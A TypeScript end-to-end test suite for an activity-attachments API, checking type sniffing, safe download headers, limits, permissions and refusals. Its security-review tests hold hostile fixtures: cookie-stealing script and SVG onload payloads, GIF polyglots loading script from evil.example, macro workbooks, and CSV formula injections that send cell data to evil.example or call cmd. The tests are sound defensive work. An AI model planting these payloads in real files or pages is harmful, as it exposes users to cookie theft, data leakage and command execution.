/**
 * SPEC §4 attachments over HTTP: multipart upload with the type sniffed from the bytes, sha256,
 * atomic storage under a temp ATTACHMENTS_DIR, safe download headers, and every refusal (400,
 * 403, 404, 413) leaving neither a file nor a row behind.
 */
import { createHash, randomUUID } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { request, type IncomingHttpHeaders } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { CONTENT_TYPES } from '../../apps/api/src/attachments/sniff.js';
import { AttachmentEntity } from '../../libs/db/entities/attachment.entity.js';
import { exampleSummary, type ExampleAttachmentIds } from '../../libs/summary/index.js';
import { activityBody } from '../support/builders.js';
import { docx, OLE_HEADER, xlsx } from '../support/ooxml.js';
import { registerExampleActivity } from './support/fixtures.js';
import { bearer, startStack, type Stack } from './support/stack.js';

let stack: Stack;
let small: Stack;
const dir = mkdtempSync(path.join(tmpdir(), 'attachments-e2e-'));
const smallDir = mkdtempSync(path.join(tmpdir(), 'attachments-small-e2e-'));

beforeAll(async () => {
  stack = await startStack({ ATTACHMENTS_DIR: dir });
  // Same database, a 1 KB limit and 2 attachments per activity; uploads only, so it needs no worker.
  small = await startStack(
    { ATTACHMENTS_MAX_BYTES: '1024', ATTACHMENTS_MAX_PER_ACTIVITY: '2', ATTACHMENTS_DIR: smallDir },
    { worker: false },
  );
});
afterAll(async () => {
  await small?.stop();
  await stack?.stop();
  rmSync(dir, { recursive: true, force: true });
  rmSync(smallDir, { recursive: true, force: true });
});

// ── files built here, byte by byte ─────────────────────────────────────────────────────

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(buf: Buffer): number {
  let c = 0xffffffff;
  for (const b of buf) c = (CRC_TABLE[(c ^ b) & 0xff] ?? 0) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}
/** A valid RGB PNG of `w`×`h` red pixels. */
function png(w = 1, h = 1): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit, truecolour, deflate, no filter, no interlace
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(w * 3, 0)]);
  for (let x = 0; x < w; x++) row[1 + x * 3] = 0xff;
  const raw = Buffer.concat(Array.from({ length: h }, () => row));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(raw)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}
/** SOI, a JFIF APP0 segment and EOI: the JPEG framing, without image data. */
const JPEG = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex');
const CSV = Buffer.from('项目,线上,线下\n参与人数,180,260\n', 'utf8');
const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< ' +
    '/Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
  'latin1',
);
const HTML = Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>', 'utf8');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'utf8');
const EXE = Buffer.concat([Buffer.from('MZ', 'latin1'), Buffer.alloc(62, 0), Buffer.from('PE\0\0', 'latin1')]);

const sha256 = (b: Buffer): string => createHash('sha256').update(b).digest('hex');

// ── HTTP helpers ────────────────────────────────────────────────────────────────────────

async function register(): Promise<string> {
  const res = await stack.as('staff')('POST', '/api/activities', activityBody());
  expect(res.status).toBe(201);
  return res.body.id as string;
}

async function upload(user: string, activityId: string, kind: string, bytes: Buffer, name: string, on: Stack = stack) {
  const form = new FormData();
  form.append('kind', kind);
  // The client's claimed type is deliberately wrong: only the bytes may decide.
  form.append('file', new Blob([bytes], { type: 'image/png' }), name);
  const res = await fetch(`${on.baseUrl}/api/activities/${activityId}/attachments`, {
    method: 'POST',
    headers: bearer(await on.login(user)),
    body: form,
  });
  const text = await res.text();
  return { status: res.status, body: text ? JSON.parse(text) : null };
}

async function download(user: string, activityId: string, attachmentId: string) {
  const res = await fetch(`${stack.baseUrl}/api/activities/${activityId}/attachments/${attachmentId}`, {
    headers: bearer(await stack.login(user)),
  });
  return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
}

/** Files on disk (temp files included) and rows for an activity: both must stay empty after a refusal. */
async function stored(activityId: string, folder = dir): Promise<{ files: string[]; rows: number }> {
  const sub = path.join(folder, activityId);
  const files = existsSync(sub) ? readdirSync(sub) : [];
  const rows = await stack.dataSource.getRepository(AttachmentEntity).countBy({ activityId });
  return { files, rows };
}

// ── tests ───────────────────────────────────────────────────────────────────────────────

describe('attachments (SPEC §4)', () => {
  it('stores PNG, JPEG, CSV and PDF with the sniffed type and sha256, and serves the same bytes as a safe download', async () => {
    const id = await register();
    const cases = [
      { kind: 'photo', bytes: png(4, 3), name: 'site.png', type: 'image/png' },
      { kind: 'media_screenshot', bytes: JPEG, name: 'report.jpg', type: 'image/jpeg' },
      { kind: 'data_table', bytes: CSV, name: '数据统计表.csv', type: 'text/csv; charset=utf-8' },
      { kind: 'questionnaire_report', bytes: PDF, name: 'questionnaire "final".pdf', type: 'application/pdf' },
    ];
    const ids: string[] = [];
    for (const c of cases) {
      const res = await upload(c.kind === 'data_table' ? 'dept_head' : 'staff', id, c.kind, c.bytes, c.name);
      expect(res.status).toBe(201);
      expect(res.body).toEqual({
        id: expect.any(String),
        kind: c.kind,
        contentType: c.type,
        size: c.bytes.length,
        sha256: sha256(c.bytes),
        originalName: c.name,
        fileName: c.name,
      });
      ids.push(res.body.id);

      const got = await download('supervisor', id, res.body.id);
      expect(got.status).toBe(200);
      expect(got.bytes.equals(c.bytes)).toBe(true);
      expect(got.headers.get('content-type')).toBe(c.type);
      expect(got.headers.get('content-length')).toBe(String(c.bytes.length));
      expect(got.headers.get('content-disposition')).toMatch(/^attachment; /);
      expect(got.headers.get('content-disposition')).toContain(
        `filename*=UTF-8''${encodeURIComponent(c.name).replace(/['()*]/g, (ch) => `%${ch.charCodeAt(0).toString(16).toUpperCase()}`)}`,
      );
      expect(got.headers.get('x-content-type-options')).toBe('nosniff');
      expect(got.headers.get('content-security-policy')).toBe("default-src 'none'");
    }

    // On disk as <dir>/<activityId>/<attachmentId>, with no temp file left.
    expect((await stored(id)).files.sort()).toEqual([...ids].sort());
    const list = await stack.as('dept_head')('GET', `/api/activities/${id}/attachments`);
    expect(list.status).toBe(200);
    expect(list.body.items.map((a: { id: string }) => a.id)).toEqual(ids);
    expect(list.body.items[0]).toMatchObject({
      kind: 'photo',
      contentType: 'image/png',
      uploadedBy: expect.any(String),
      createdAt: expect.any(String),
    });

    // Readers only: another department's staff sees neither the list nor the bytes.
    expect((await stack.as('training_staff')('GET', `/api/activities/${id}/attachments`)).status).toBe(403);
    expect((await download('training_staff', id, ids[0] ?? '')).status).toBe(403);
    expect((await download('staff', id, randomUUID())).status).toBe(404);
  });

  it('refuses content that is not an accepted format whatever its name (400, in Chinese and English), storing nothing', async () => {
    const id = await register();
    for (const [bytes, name] of [
      [HTML, 'photo.png'],
      [SVG, 'image.png'],
      [EXE, 'photo.jpg'],
      [Buffer.alloc(0), 'empty.png'],
    ] as const) {
      const res = await upload('staff', id, 'photo', bytes, name);
      expect(res.status).toBe(400);
      expect(res.body).toMatchObject({
        statusCode: 400,
        code: 'VALIDATION_FAILED',
        message: expect.stringContaining('content'),
        messageZh: expect.stringContaining('文件内容'),
      });
      expect(res.body.details[0]).toMatchObject({ field: 'file', code: 'unsupportedType' });
    }
    expect(await stored(id)).toEqual({ files: [], rows: 0 });
  });

  it('refuses a kind whose type does not fit (photo must be an image, data table xlsx/csv), and a bad or missing kind', async () => {
    const id = await register();
    const csvAsPhoto = await upload('staff', id, 'photo', CSV, 'photo.jpg');
    expect(csvAsPhoto.status).toBe(400);
    expect(csvAsPhoto.body).toMatchObject({ code: 'VALIDATION_FAILED', messageZh: expect.stringContaining('活动照片') });
    expect(csvAsPhoto.body.details[0]).toMatchObject({ code: 'kindTypeMismatch' });
    const pngAsTable = await upload('staff', id, 'data_table', png(), 'table.csv');
    expect(pngAsTable.status).toBe(400);
    expect((await upload('staff', id, 'poster', png(), 'x.png')).status).toBe(400);
    expect((await upload('staff', id, '', png(), 'x.png')).body.details).toEqual([
      expect.objectContaining({ field: 'kind', code: 'isIn' }),
    ]);
    const kindOnly = new FormData();
    kindOnly.append('kind', 'photo');
    const noFile = await fetch(`${stack.baseUrl}/api/activities/${id}/attachments`, {
      method: 'POST',
      headers: bearer(await stack.login('staff')),
      body: kindOnly,
    });
    expect(noFile.status).toBe(400);
    expect(await noFile.json()).toMatchObject({ code: 'VALIDATION_FAILED', details: [expect.objectContaining({ field: 'file' })] });
    expect(await stored(id)).toEqual({ files: [], rows: 0 });
  });

  it('answers 403 to a read-only role and to another department, 404 to an unknown activity', async () => {
    const id = await register();
    const supervisor = await upload('supervisor', id, 'photo', png(), 'p.png');
    expect(supervisor.status).toBe(403);
    expect(supervisor.body).toMatchObject({ code: 'FORBIDDEN', messageZh: expect.any(String) });
    const training = await upload('training_staff', id, 'photo', png(), 'p.png');
    expect(training.status).toBe(403);
    expect(training.body).toMatchObject({ code: 'FORBIDDEN', messageZh: expect.any(String) });
    expect(await stored(id)).toEqual({ files: [], rows: 0 });

    const unknown = randomUUID();
    const missing = await upload('staff', unknown, 'photo', png(), 'p.png');
    expect(missing.status).toBe(404);
    expect(missing.body).toMatchObject({ code: 'NOT_FOUND', messageZh: expect.any(String) });
    expect((await stack.as('staff')('GET', `/api/activities/${unknown}/attachments`)).status).toBe(404);
    expect(await stored(unknown)).toEqual({ files: [], rows: 0 });
  });

  it('answers 413 in the one error shape above ATTACHMENTS_MAX_BYTES, storing nothing', async () => {
    const id = await register();
    // A real PNG followed by 2 KB of padding: still sniffed as PNG, over the 1 KB limit.
    const res = await upload('staff', id, 'photo', Buffer.concat([png(), Buffer.alloc(2048)]), 'big.png', small);
    expect(res.status).toBe(413);
    expect(res.body).toMatchObject({
      statusCode: 413,
      code: 'PAYLOAD_TOO_LARGE',
      message: expect.stringContaining('1024'),
      messageZh: expect.stringContaining('1024'),
    });
    expect(await stored(id, smallDir)).toEqual({ files: [], rows: 0 });

    const fits = await upload('staff', id, 'photo', png(), 'small.png', small);
    expect(fits.status).toBe(201);
    expect(readdirSync(path.join(smallDir, id))).toEqual([fits.body.id]);
  });
});

// ── security review, finding 4 ──────────────────────────────────────────────────────────

/** A one-pixel GIF89a. */
const GIF = Buffer.from('474946383961010001008000000000ffffff21f90401000000002c00000000010001000002024401003b', 'hex');

/**
 * A multipart upload over a raw socket that sends only the first `sentBytes` of a `declaredBytes`
 * file and then waits: the answer can only come from a server that did not wait for the rest.
 * Resolves with the response, or `null` when none came within `waitMs`.
 */
async function partialUpload(on: Stack, user: string, activityId: string, sentBytes: number, waitMs: number) {
  const boundary = `----e2e${randomUUID()}`;
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nphoto\r\n` +
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.png"\r\nContent-Type: image/png\r\n\r\n`,
  );
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  const declaredBytes = 19 * 1024 * 1024;
  const url = new URL(`${on.baseUrl}/api/activities/${activityId}/attachments`);
  const token = await on.login(user);
  return new Promise<{ status: number; headers: IncomingHttpHeaders; body: any } | null>((resolve, reject) => {
    const req = request(url, {
      method: 'POST',
      headers: {
        ...bearer(token),
        'content-type': `multipart/form-data; boundary=${boundary}`,
        'content-length': String(head.length + declaredBytes + tail.length),
      },
    });
    const timer = setTimeout(() => {
      req.destroy();
      resolve(null);
    }, waitMs);
    req.on('error', () => undefined); // the server may close while the rest is still unsent
    req.on('response', (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('error', reject);
      res.on('end', () => {
        clearTimeout(timer);
        req.destroy();
        const text = Buffer.concat(chunks).toString('utf8');
        resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text ? JSON.parse(text) : null });
      });
    });
    req.write(Buffer.concat([head, png(), Buffer.alloc(sentBytes)]));
  });
}

describe('security review, finding 4: attachments', () => {
  it('an HTML file with a GIF header is refused as a photo; a real GIF named .html is stored, listed and served as .gif', async () => {
    const id = await register();
    for (const bytes of [
      Buffer.from('GIF89a<html><body><script>alert(document.cookie)</script></body></html>'),
      Buffer.concat([GIF, Buffer.from('<script src="//evil.example/x.js"></script>')]),
    ]) {
      const polyglot = await upload('staff', id, 'photo', bytes, '活动照片.html');
      expect(polyglot.status).toBe(400);
      expect(polyglot.body).toMatchObject({ code: 'VALIDATION_FAILED', messageZh: expect.stringContaining('HTML') });
      expect(polyglot.body.details[0]).toMatchObject({ field: 'file', code: 'embeddedMarkup' });
    }
    expect(await stored(id)).toEqual({ files: [], rows: 0 });

    const gif = await upload('staff', id, 'photo', GIF, '活动照片.html');
    expect(gif.status).toBe(201);
    expect(gif.body).toMatchObject({ contentType: 'image/gif', originalName: '活动照片.gif', fileName: '活动照片.gif' });
    const row = await stack.dataSource.getRepository(AttachmentEntity).findOneByOrFail({ id: gif.body.id });
    expect(row.originalName).toBe('活动照片.gif');
    const got = await download('staff', id, gif.body.id);
    expect(got.headers.get('content-type')).toBe('image/gif');
    expect(got.headers.get('content-disposition')).toBe(
      `attachment; filename="____.gif"; filename*=UTF-8''${encodeURIComponent('活动照片')}.gif`,
    );
    expect(got.headers.get('x-content-type-options')).toBe('nosniff');
    expect(got.headers.get('content-security-policy')).toBe("default-src 'none'");
    const list = await stack.as('staff')('GET', `/api/activities/${id}/attachments`);
    expect(list.body.items[0]).toMatchObject({ originalName: '活动照片.gif', fileName: '活动照片.gif' });
  });

  it(
    'a macro workbook (xl/vbaProject.bin) or macro document is refused (400 naming file); ' + 'a plain one named .xlsm is stored as .xlsx',
    async () => {
      const id = await register();
      const vba = { name: 'xl/vbaProject.bin', data: OLE_HEADER };
      for (const [kind, bytes, name] of [
        [
          'data_table',
          xlsx({ macroEnabled: true, extra: [vba], defaults: { bin: 'application/vnd.ms-office.vbaProject' } }),
          '费用明细.xlsm',
        ],
        ['data_table', xlsx({ extra: [vba] }), '费用明细.xlsx'],
        ['questionnaire_report', docx({ macroEnabled: true, extra: [{ name: 'word/vbaProject.bin', data: OLE_HEADER }] }), '报告.docx'],
      ] as const) {
        const res = await upload('staff', id, kind, bytes, name);
        expect(res.status).toBe(400);
        expect(res.body).toMatchObject({
          statusCode: 400,
          code: 'VALIDATION_FAILED',
          message: expect.stringContaining('macros'),
          messageZh: expect.stringContaining('宏'),
        });
        expect(res.body.details).toEqual([expect.objectContaining({ field: 'file', code: 'macrosNotAllowed' })]);
      }
      expect(await stored(id)).toEqual({ files: [], rows: 0 });

      const plain = await upload('staff', id, 'data_table', xlsx(), '费用明细.xlsm');
      expect(plain.status).toBe(201);
      expect(plain.body).toMatchObject({ contentType: CONTENT_TYPES.xlsx, originalName: '费用明细.xlsx', fileName: '费用明细.xlsx' });
      expect((await download('staff', id, plain.body.id)).headers.get('content-disposition')).toContain('.xlsx');
    },
  );

  it('CSV cells that would run as formulas are served as text, the stored file and its sha256 stay as uploaded', async () => {
    const id = await register();
    const csv = Buffer.from(
      '项目,金额,备注\n退款,-120.50,=HYPERLINK("http://evil.example/?"&A1,"点此领取")\n' +
        '调整,+3,"@SUM(1+1)*cmd|\' /C calc\'!A0"\n合计,\t-1+cmd|x!A0,+86\n',
      'utf8',
    );
    const res = await upload('staff', id, 'data_table', csv, '费用.csv');
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ contentType: 'text/csv; charset=utf-8', size: csv.length, sha256: sha256(csv) });
    expect(readFileSync(path.join(dir, id, res.body.id)).equals(csv)).toBe(true);

    const got = await download('supervisor', id, res.body.id);
    const expected =
      '项目,金额,备注\n退款,-120.50,\'=HYPERLINK("http://evil.example/?"&A1,"点此领取")\n' +
      "调整,+3,\"'@SUM(1+1)*cmd|' /C calc'!A0\"\n合计,\t'-1+cmd|x!A0,+86\n";
    expect(got.bytes.toString('utf8')).toBe(expected);
    expect(got.headers.get('content-length')).toBe(String(Buffer.byteLength(expected)));
    expect(got.headers.get('content-disposition')).toMatch(/^attachment; /);
  });

  it(
    'another department is refused (403) before the body is read: the answer comes while 19 MB are still unsent, ' +
      'and nothing is written',
    async () => {
      const id = await register();
      // Control: the lead department's staff, given the same first 64 KB, gets no answer: the server waits for the body.
      expect(await partialUpload(stack, 'staff', id, 64 * 1024, 1_000)).toBeNull();

      const started = Date.now();
      const refused = await partialUpload(stack, 'training_staff', id, 64 * 1024, 10_000);
      expect(refused).not.toBeNull();
      expect(refused?.status).toBe(403);
      expect(refused?.body).toMatchObject({ code: 'FORBIDDEN', details: [expect.objectContaining({ code: 'otherDepartment' })] });
      // The server stops reading: it closes the connection rather than drain the rest.
      expect(refused?.headers.connection).toBe('close');
      expect(Date.now() - started).toBeLessThan(5_000);

      // An unknown activity: 404, equally before the body.
      expect((await partialUpload(stack, 'staff', randomUUID(), 64 * 1024, 10_000))?.status).toBe(404);
      expect(await stored(id)).toEqual({ files: [], rows: 0 });
    },
  );

  it('an activity never takes more than ATTACHMENTS_MAX_PER_ACTIVITY attachments (413), not even by concurrent uploads', async () => {
    const id = await register();
    const results = await Promise.all([1, 2, 3].map((n) => upload('staff', id, 'photo', png(n, 1), `p${n}.png`, small)));
    expect(results.map((r) => r.status).sort()).toEqual([201, 201, 413]);
    const more = await upload('staff', id, 'photo', png(), 'p4.png', small);
    expect(more.status).toBe(413);
    expect(more.body).toMatchObject({
      statusCode: 413,
      code: 'PAYLOAD_TOO_LARGE',
      message: expect.stringContaining('2 attachments'),
      messageZh: expect.stringContaining('2 个附件'),
      details: [expect.objectContaining({ field: 'file', code: 'tooManyAttachments' })],
    });
    expect(readdirSync(path.join(smallDir, id))).toHaveLength(2);
    expect(await small.dataSource.getRepository(AttachmentEntity).countBy({ activityId: id })).toBe(2);
    // Refused before the body: the answer comes while most of it is unsent.
    expect((await partialUpload(small, 'staff', id, 64 * 1024, 10_000))?.status).toBe(413);
  });
});

describe("R-9.5 a summary lists this activity's uploads", () => {
  /** Uploads the attachments R-9.5 asks for: 4 photos, 2 data tables, 2 media screenshots, 1 questionnaire report. */
  async function uploadSet(activityId: string): Promise<ExampleAttachmentIds> {
    const one = async (kind: string, bytes: Buffer, name: string) => {
      const res = await upload('staff', activityId, kind, bytes, name);
      expect(res.status).toBe(201);
      return res.body.id as string;
    };
    return {
      photo: [
        await one('photo', png(2, 2), '主会场.png'),
        await one('photo', png(3, 2), '分会场.png'),
        await one('photo', png(2, 3), '签到.png'),
        await one('photo', png(4, 4), '合影.png'),
      ],
      data_table: [await one('data_table', CSV, '参与人员统计.csv'), await one('data_table', CSV, '费用明细.csv')],
      media_screenshot: [await one('media_screenshot', JPEG, '电视报道.jpg'), await one('media_screenshot', JPEG, '网络报道.jpg')],
      questionnaire_report: [await one('questionnaire_report', PDF, '问卷分析报告.pdf')],
    };
  }
  const submit = (activityId: string, document: unknown) =>
    stack.as('staff')('POST', `/api/activities/${activityId}/summaries`, { document });

  it(
    'refuses an attachment of another activity or of another kind (422, naming ' +
      "the entry), and accepts the activity's own uploads with no finding",
    async () => {
      const id = await registerExampleActivity(stack);
      const ids = await uploadSet(id);
      const elsewhere = await uploadSet(await register());

      const foreign = await submit(id, exampleSummary({ ...ids, photo: [elsewhere.photo[0]!, ...ids.photo.slice(1)] }));
      expect(foreign.status).toBe(422);
      expect(foreign.body.details).toEqual([
        expect.objectContaining({ field: 'attachments.0.attachmentId', code: 'R-9.5', messageZh: expect.stringContaining('属于其他活动') }),
      ]);

      const swapped = await submit(
        id,
        exampleSummary({
          ...ids,
          data_table: [ids.media_screenshot[0]!, ids.data_table[1]!],
          media_screenshot: [ids.data_table[0]!, ids.media_screenshot[1]!],
        }),
      );
      expect(swapped.status).toBe(422);
      expect(swapped.body.details.map((d: { field: string }) => d.field)).toEqual([
        'attachments.4.attachmentId',
        'attachments.6.attachmentId',
      ]);

      const ok = await submit(id, exampleSummary(ids));
      expect(ok.status).toBe(201);
      expect(ok.body.version.findings).toEqual([]);
    },
  );

  it("reports listed ids that nothing was uploaded under as warnings for the reviewers (the OpenAPI example's placeholders)", async () => {
    const id = await registerExampleActivity(stack);
    const res = await submit(id, exampleSummary());
    expect(res.status).toBe(201);
    expect(res.body.version.findings).toHaveLength(9);
    for (const f of res.body.version.findings)
      expect(f).toMatchObject({ rule: 'R-9.5', severity: 'warning', messageZh: expect.stringContaining('尚未上传') });
  });
});
